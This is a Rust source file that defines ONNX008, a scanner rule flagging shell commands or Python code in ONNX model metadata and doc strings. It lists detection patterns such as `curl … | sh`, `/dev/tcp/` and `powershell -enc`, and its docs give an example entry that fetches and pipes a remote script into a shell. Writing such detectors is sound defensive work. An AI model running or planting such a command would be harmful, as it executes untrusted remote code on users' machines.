//! ONNX008: an ONNX doc string or metadata value contains a shell command
//! or Python code.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::{MetadataText, check_code};

pub static RULE: RuleMeta = RuleMeta {
    code: "ONNX008",
    name: "onnx-metadata-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "onnx",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "An ONNX metadata_props entry, doc string or producer field contains a shell command or Python code.",
    remediation: "Find out what reads this metadata; do not run it. Re-export the model without the entry.",
    docs: r#"## What it does
Looks at `metadata_props` keys and values (of the model, its graphs and
nodes), the model's, graphs', nodes' and functions' doc strings, and the
producer name, version and domain for Python that evaluates code or runs
commands (`eval(`, `exec(`, `__import__`, `os.system(`, `import os`, …) and
shell commands (`curl … | sh`, `/dev/tcp/`, `bash -c`, `powershell -enc`,
…). Patterns need call or pipe syntax, so words such as `eval` do not match.

## Why is this bad?
ONNX runtimes never execute metadata. A command there is staged for a tool
that will (a serving wrapper that runs a "preprocess" entry, a UI that
renders it) or for a person who copies it.

## Example
`metadata_props { key: "preprocess" value: "curl -s http://203.0.113.7/p.sh | sh" }`

## How to fix
Do not execute anything taken from model metadata; re-export the model.

## References
- https://onnx.ai/onnx/repo-docs/IR.html (metadata_props)
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}
